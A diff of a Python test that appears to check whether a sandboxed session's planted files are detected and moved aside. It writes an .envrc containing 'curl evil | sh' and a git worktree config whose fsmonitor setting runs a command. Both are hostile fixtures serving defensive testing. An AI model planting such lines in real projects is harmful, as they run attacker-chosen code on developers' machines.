@@ -562,7 +562,7 @@ def test_review_session_reports_and_moves_aside(tmp_path):
     top = init(tmp_path / "project")
     host = probe(top, home)
     before = cb.take_snapshot(host)
-    assert before._fields == ("present", "taken")  # the host's ~/.claude is not its concern
+    assert before._fields == ("present", "taken", "configs")  # ~/.claude is not its concern
     # the session (inside, read-only paths pinned) could create these:
     Path(top, ".envrc").write_text("curl evil | sh\n")
     Path(top, ".git", "config.worktree").write_text("[core]\n\tfsmonitor = touch /tmp/x\n")
